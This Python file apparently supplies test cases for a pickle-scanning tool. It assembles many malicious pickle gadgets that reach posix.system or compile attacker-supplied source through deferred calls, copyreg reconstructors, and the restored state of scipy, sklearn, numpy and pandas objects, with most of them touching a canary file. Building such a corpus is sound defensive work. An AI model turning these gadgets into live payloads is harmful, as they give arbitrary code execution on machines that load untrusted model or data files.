"""Calls that put off what they do, that rebuild what they should not, and honest classes that run their state."""

from __future__ import annotations

from pathlib import Path

from hostile.assembler import Code, built, call, hostile_pickle, name, touch, with_state
from hostile.corpus import Hostile

LATER = "trampolines: put off"
REBUILT = "trampolines: copyreg and reconstructors"
STATES = "trampolines: honest classes that run their state"

_LATER = (
    hostile_pickle(
        "weakref.finalize",
        LATER,
        lambda c: call(name("weakref", "finalize"), name("builtins", "set"), name("posix", "system"), touch(c)),
        "weakref.finalize",
        "posix.system",
    ),
    hostile_pickle(
        "atexit.register",
        LATER,
        lambda c: call(name("atexit", "register"), name("posix", "system"), touch(c)),
        "atexit.register",
        "posix.system",
    ),
    hostile_pickle(
        "signal.signal",
        LATER,
        lambda _: call(name("signal", "signal"), 14, name("posix", "system")),
        "signal.signal",
        "posix.system",
        proof="",
    ),
    hostile_pickle(
        "threading.Timer",
        LATER,
        lambda c: call(
            name("threading", "Timer.start"), call(name("threading", "Timer"), 0, name("posix", "system"), [touch(c)])
        ),
        "threading.Timer",
        "posix.system",
    ),
    hostile_pickle(
        "threading.Thread",
        LATER,
        lambda c: call(
            name("threading", "Thread.run"),
            call(name("threading", "Thread"), None, name("posix", "system"), None, (touch(c),)),
        ),
        "threading.Thread",
        "posix.system",
    ),
    hostile_pickle(
        "_thread.start_new_thread",
        LATER,
        lambda c: call(name("_thread", "start_new_thread"), name("posix", "system"), (touch(c),)),
        "_thread.start_new_thread",
        proof="",
    ),
    hostile_pickle(
        "multiprocessing.Pool",
        LATER,
        lambda _: call(name("multiprocessing", "Pool"), 1),
        "multiprocessing.Pool",
        proof="",
    ),
    hostile_pickle(
        "concurrent.futures",
        LATER,
        lambda c: call(
            name("concurrent.futures", "ThreadPoolExecutor.submit"),
            call(name("concurrent.futures", "ThreadPoolExecutor")),
            name("posix", "system"),
            touch(c),
        ),
        "concurrent.futures.ThreadPoolExecutor",
        "posix.system",
        proof="",
    ),
    hostile_pickle(
        "defaultdict",
        LATER,
        lambda c: call(
            name("collections", "defaultdict.__missing__"),
            call(
                name("collections", "defaultdict"),
                call(name("functools", "partial"), name("posix", "system"), touch(c)),
            ),
            1,
        ),
        "functools.partial",
        "posix.system",
    ),
    hostile_pickle(
        "defaultdict-of-a-function",
        LATER,
        lambda _: call(name("collections", "defaultdict"), name("posix", "getcwd")),
        "posix.getcwd",
        proof="",
    ),
    hostile_pickle(
        "map",
        LATER,
        lambda c: call(name("builtins", "list"), call(name("builtins", "map"), name("posix", "system"), [touch(c)])),
        "builtins.map",
        "posix.system",
    ),
    hostile_pickle(
        "filter",
        LATER,
        lambda c: call(name("builtins", "set"), call(name("builtins", "filter"), name("posix", "system"), [touch(c)])),
        "builtins.filter",
        "posix.system",
    ),
    hostile_pickle(
        "map-into-frozenset",
        LATER,
        lambda c: call(
            name("builtins", "frozenset"), call(name("builtins", "map"), name("posix", "system"), [touch(c)])
        ),
        "builtins.map",
        "posix.system",
    ),
    hostile_pickle(
        "itertools.starmap",
        LATER,
        lambda c: call(
            name("collections", "deque"), call(name("itertools", "starmap"), name("posix", "system"), [(touch(c),)])
        ),
        "itertools.starmap",
        "posix.system",
    ),
    hostile_pickle(
        "iter-with-a-sentinel",
        LATER,
        lambda c: call(
            name("builtins", "next"),
            call(name("builtins", "iter"), call(name("functools", "partial"), name("posix", "system"), touch(c)), 1),
        ),
        "builtins.iter",
        "posix.system",
    ),
    hostile_pickle(
        "sorted-by-key", LATER, lambda c: call(name("builtins", "max"), [touch(c), touch(c)]), "builtins.max", proof=""
    ),
    hostile_pickle(
        "re.sub",
        LATER,
        lambda c: call(name("re", "sub"), ".*", name("posix", "system"), touch(c)),
        "re.sub",
        "posix.system",
        proof="",
    ),
    hostile_pickle(
        "contextlib.ExitStack",
        LATER,
        lambda c: call(
            name("contextlib", "ExitStack.__exit__"), call(name("contextlib", "ExitStack")), None, None, None
        ),
        "contextlib.ExitStack",
        proof="",
    ),
    hostile_pickle("asyncio.run", LATER, lambda _: call(name("asyncio", "run"), None), "asyncio.run", proof=""),
    hostile_pickle(
        "sched.scheduler",
        LATER,
        lambda c: call(name("sched", "scheduler.run"), call(name("sched", "scheduler"))),
        "sched.scheduler",
        proof="",
    ),
)

_REBUILT = (
    hostile_pickle(
        "copyreg._reconstructor-of-code",
        REBUILT,
        lambda _: call(name("copyreg", "_reconstructor"), name("types", "CodeType"), name("builtins", "object"), None),
        "types.CodeType",
        proof="",
    ),
    hostile_pickle(
        "copyreg.__newobj_ex__",
        REBUILT,
        lambda c: call(
            call(
                name("copyreg", "__newobj_ex__"), name("functools", "partial"), (name("posix", "system"), touch(c)), {}
            )
        ),
        "functools.partial",
        "posix.system",
    ),
    hostile_pickle(
        "copyreg.pickle",
        REBUILT,
        lambda _: call(name("copyreg", "pickle"), name("builtins", "complex"), name("posix", "system")),
        "copyreg.pickle",
        "posix.system",
        proof="",
    ),
    hostile_pickle(
        "copyreg.add_extension",
        REBUILT,
        lambda _: call(name("copyreg", "add_extension"), "posix", "system", 1),
        "copyreg.add_extension",
        proof="",
    ),
    hostile_pickle(
        "copyreg.constructor",
        REBUILT,
        lambda _: call(name("copyreg", "constructor"), name("posix", "system")),
        "copyreg.constructor",
        "posix.system",
        proof="",
    ),
    hostile_pickle(
        "copy.copy",
        REBUILT,
        lambda c: call(name("copy", "_reconstruct"), None, None, name("posix", "system"), (touch(c),)),
        "copy._reconstruct",
        "posix.system",
    ),
    hostile_pickle(
        "copyreg.__newobj__-of-FileIO",
        REBUILT,
        lambda c: call(name("copyreg", "__newobj__"), name("_io", "FileIO"), str(c), "w"),
        "_io.FileIO",
        proof="",
    ),
    hostile_pickle(
        "pandas-unpickle_block",
        REBUILT,
        lambda _: call(name("pandas._libs.internals", "_unpickle_block"), name("posix", "system"), 1, 1),
        "posix.system",
        proof="",
    ),
    hostile_pickle(
        "sklearn-Bunch-with-a-command",
        REBUILT,
        lambda _: with_state(call(name("sklearn.utils._bunch", "Bunch")), {"data": name("posix", "system")}),
        "posix.system",
        proof="",
    ),
    hostile_pickle(
        "numpy.ma-with-a-foreign-class",
        REBUILT,
        lambda c: call(
            name("numpy.ma.core", "_mareconstruct"), name("posix", "system"), name("posix", "system"), (0,), "b"
        ),
        "posix.system",
        proof="",
    ),
    hostile_pickle(
        "numpy-reconstruct-of-a-foreign-class",
        REBUILT,
        lambda c: call(name("numpy._core.multiarray", "_reconstruct"), name("numpy", "memmap"), (0,), b"b"),
        "numpy.memmap",
        proof="",
    ),
    hostile_pickle(
        "the-random-generator-of-a-name",
        REBUILT,
        lambda c: call(name("numpy.random._pickle", "__generator_ctor"), touch(c), name("posix", "system")),
        "posix.system",
    ),
    hostile_pickle(
        "the-bit-generator-of-a-name",
        REBUILT,
        lambda _: call(name("numpy.random._pickle", "__bit_generator_ctor"), name("posix", "system")),
        "posix.system",
        proof="",
    ),
)


def _distribution(canary: Path) -> Code:
    """scipy.stats keeps the source of its argument parser in the state, and runs it when the state is set."""
    source = f"open({str(canary)!r}, 'w').close()\n_parse_args = _parse_args_stats = _parse_args_rvs = None"
    made = built(name("scipy.stats._continuous_distns", "uniform_gen"))
    return with_state(made, {"_parse_arg_template": source, "name": "uniform"})


_STATES = (
    hostile_pickle("scipy.stats-runs-its-state", STATES, _distribution, "compile"),
    hostile_pickle(
        "scipy.stats-runs-the-state-of-a-frozen-distribution",
        STATES,
        lambda c: with_state(
            built(name("scipy.stats._distn_infrastructure", "rv_continuous_frozen")),
            {"dist": _distribution(c), "args": (), "kwds": {}},
        ),
        "compile",
    ),
    hostile_pickle(
        "functools.partial-in-an-honest-object",
        STATES,
        lambda c: with_state(
            built(name("sklearn.preprocessing._function_transformer", "FunctionTransformer")),
            {
                "func": call(name("functools", "partial"), name("posix", "system"), touch(c)),
                "kw_args": None,
                "validate": False,
                "check_inverse": False,
                "accept_sparse": True,
                "feature_names_out": None,
                "inverse_func": None,
                "inv_kw_args": None,
            },
        ),
        "functools.partial",
        proof="",
    ),
    hostile_pickle(
        "FunctionTransformer-runs-what-it-holds",
        STATES,
        lambda _: with_state(
            built(name("sklearn.preprocessing._function_transformer", "FunctionTransformer")),
            {
                "func": name("posix", "system"),
                "kw_args": None,
                "validate": False,
                "check_inverse": False,
                "accept_sparse": True,
                "feature_names_out": None,
                "inverse_func": None,
                "inv_kw_args": None,
            },
        ),
        "posix.system",
        proof="",
    ),
)

HOSTILE: tuple[Hostile, ...] = (*_LATER, *_REBUILT, *_STATES)
